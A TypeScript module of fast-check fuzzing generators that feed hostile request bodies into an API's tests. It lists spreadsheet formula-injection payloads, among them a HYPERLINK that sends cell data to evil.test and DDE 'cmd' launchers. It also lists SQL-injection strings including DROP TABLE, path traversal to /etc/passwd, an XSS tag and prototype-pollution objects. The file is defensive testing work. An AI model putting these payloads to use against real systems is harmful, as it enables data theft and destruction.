import fc from "fast-check";

/** Cells a spreadsheet would run as a formula if a CSV export wrote them as they are. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1",
  "\r=1",
  "=cmd|' /C notepad'!'A1'",
] as const;

const SQL_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE \"Event\"; --",
  "1; SELECT pg_sleep(0) --",
  '" OR ""="',
  "\\'; --",
  "$1::text",
  "%' AND 1=1 --",
] as const;

const PROTOTYPE_KEYS = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty"] as const;

const ODD_TEXT = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff\ud800",
  "\u202e\u202d",
  "💸".repeat(50),
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "%",
  "%zz",
  "<script>alert(1)</script>",
  "${process.env}",
  "{{7*7}}",
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e309",
  "9".repeat(400),
  "0x10",
  "2026-13-45T99:99:99Z",
  "2026-W99",
  "9999-12-31",
  "0000-01-01",
  "-271821-04-19",
] as const;

/** Strings built to break parsers and queries: injections, prototype keys, lone surrogates, NULs, huge ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULA_PAYLOADS, ...SQL_PAYLOADS, ...PROTOTYPE_KEYS, ...ODD_TEXT),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.integer({ min: 257, max: 70_000 }).map((n) => "x".repeat(n)),
);

/** Numbers at the edges: negative, fractional, huge, unsafe integers, -0 (JSON has no NaN or Infinity). */
const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, -0, 0.1, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, 1e-320),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** An object whose own keys would pollute `Object.prototype` if a merge or assignment trusted them. */
const prototypePollution: fc.Arbitrary<Record<string, unknown>> = fc.constantFrom(
  JSON.parse('{"__proto__":{"polluted":"yes"}}') as Record<string, unknown>,
  JSON.parse('{"constructor":{"prototype":{"polluted":"yes"}}}') as Record<string, unknown>,
  JSON.parse('{"prototype":{"polluted":"yes"},"__proto__":[1]}') as Record<string, unknown>,
);

/** Deeply nested arrays or objects, as JSON values. */
const deeplyNested: fc.Arbitrary<unknown> = fc.tuple(fc.integer({ min: 50, max: 3000 }), fc.boolean()).map(([depth, asObject]) => {
  let value: unknown = "deep";
  for (let i = 0; i < depth; i++) value = asObject ? { a: value } : [value];
  return value;
});

/** Any JSON value, with hostile leaves and keys, wrong types everywhere. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.constantFrom(null, true, false),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(hostileString, fc.constantFrom(...PROTOTYPE_KEYS)), tie("value"), { maxKeys: 4 }),
    prototypePollution,
    deeplyNested,
  ),
})).value;

/** Bytes that are not UTF-8: lone continuation bytes, overlong forms, truncated sequences, surrogates. */
const invalidUtf8: fc.Arbitrary<Buffer> = fc
  .tuple(
    fc.constantFrom([0x80], [0xc0, 0xaf], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xff, 0xfe], [0xe2, 0x82]),
    fc.string({ maxLength: 20 }),
  )
  .map(([bad, text]) => Buffer.concat([Buffer.from(`{"events":[{"id":"${text.replaceAll('"', "")}`), Buffer.from(bad), Buffer.from('"}]}')]));

/** A request body as raw bytes or text: broken JSON, invalid UTF-8, nesting too deep for a recursive parser, huge. */
export const hostileRawBody: fc.Arbitrary<string | Buffer> = fc.oneof(
  invalidUtf8,
  fc.constantFrom("", "{", "}", "[", "null", "0", '"text"', "[]", "{}", "\u0000", "\ufeff{}", '{"a":1,"a":2}', "{'single':'quotes'}", "NaN"),
  fc.integer({ min: 1000, max: 200_000 }).map((depth) => "[".repeat(depth) + "]".repeat(depth)),
  fc.integer({ min: 1000, max: 100_000 }).map((depth) => '{"a":'.repeat(depth) + "1" + "}".repeat(depth)),
  fc.string({ unit: "binary", maxLength: 200 }),
);

/** A JSON path into a value: the keys from the root down. */
export type JsonPath = (string | number)[];

function leafPaths(value: unknown, prefix: JsonPath = []): JsonPath[] {
  if (Array.isArray(value)) return [prefix, ...value.flatMap((item, i) => leafPaths(item, [...prefix, i]))];
  if (typeof value === "object" && value !== null) return [prefix, ...Object.entries(value).flatMap(([k, v]) => leafPaths(v, [...prefix, k]))];
  return [prefix];
}

function replaceAt(value: unknown, path: JsonPath, replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const [head, ...rest] = path;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as Record<string, unknown>) }) as Record<string | number, unknown>;
  copy[head] = replaceAt(copy[head], rest, replacement);
  return copy;
}

/** A valid body with one field (or the whole body) replaced by a hostile value, and the path that was changed. */
export function mutatedBody(valid: unknown): fc.Arbitrary<{ body: unknown; path: JsonPath }> {
  const paths = leafPaths(valid);
  return fc.tuple(fc.constantFrom(...paths), hostileJson).map(([path, replacement]) => ({ body: replaceAt(valid, path, replacement), path }));
}
